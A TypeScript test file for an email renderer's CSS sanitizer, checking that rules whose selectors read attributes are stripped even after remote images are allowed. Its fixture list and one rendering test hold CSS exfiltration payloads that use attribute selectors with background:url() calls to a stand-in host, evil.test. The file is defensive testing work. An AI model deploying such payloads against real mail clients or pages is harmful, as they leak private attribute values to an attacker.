import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { renderMessageBody } from './render-body';
import { sanitizeRules } from './render-css';
import type { RenderContext } from './render-urls';

function sheet(css: string) {
  const { document } = new JSDOM('<!doctype html><html><head></head></html>').window;
  const style = document.createElement('style');
  style.textContent = css;
  document.head.append(style);
  return style.sheet?.cssRules ?? [];
}

const context = (allowRemote: boolean): RenderContext => ({
  inlineImages: new Map(),
  allowRemote,
  hasRemote: false,
});

describe('sanitizeRules and attribute selectors', () => {
  // Each of these can tell a remote host, once images load, what an attribute of ours contains.
  const READING_ATTRIBUTES = [
    'img[src^="https://tidings.test/api/inline/a"]{background:url(https://evil.test/a)}',
    'a[href*="user"]{background:url(https://evil.test/b)}',
    'img:not([src$="x"]){background:url(https://evil.test/c)}',
    'p:is(.x,[title]){background:url(https://evil.test/d)}',
    'p:where([lang|=en]){background:url(https://evil.test/e)}',
    'body:has(img[src^="h"]){background:url(https://evil.test/f)}',
    'li:nth-child(2 of [data-x]){background:url(https://evil.test/g)}',
    '@media screen{img[alt]{background:url(https://evil.test/h)}}',
    'td,img[src]{color:red}',
  ];

  for (const allowRemote of [false, true]) {
    it(`drops every rule whose selector reads attributes (remote ${allowRemote ? 'allowed' : 'blocked'})`, () => {
      expect(sanitizeRules(sheet(READING_ATTRIBUTES.join('\n')), context(allowRemote))).toBe('');
    });
  }

  it('keeps ordinary selectors', () => {
    const css = sanitizeRules(
      sheet('td.x p:first-child, #top a:hover{color:red} @media (max-width:600px){.col{width:100%}}'),
      context(true),
    );
    expect(css).toBe(
      'td.x p:first-child, #top a:hover{color:red}@media (max-width: 600px){.col{width:100%}}',
    );
  });

  it('drops them from rendered mail after "Show images" too', async () => {
    const html =
      '<style>img[src^="https://tidings.test/api/inline/a"]{background:url(https://evil.test/leak-a)}' +
      'p{color:#333}</style><p>Hi</p><img src="cid:logo">';
    const { document } = await renderMessageBody({
      body: { contentType: 'html', content: html },
      inlineImages: { logo: 'https://tidings.test/api/inline/abc' },
      allowRemoteContent: true,
    });
    const styles = Array.from(new JSDOM(document).window.document.querySelectorAll('style'))
      .map((s) => s.textContent)
      .join('');
    expect(styles).toContain('p{color:rgb(51, 51, 51)}');
    expect(styles).not.toContain('[');
    expect(document).not.toContain('evil.test');
  });
});
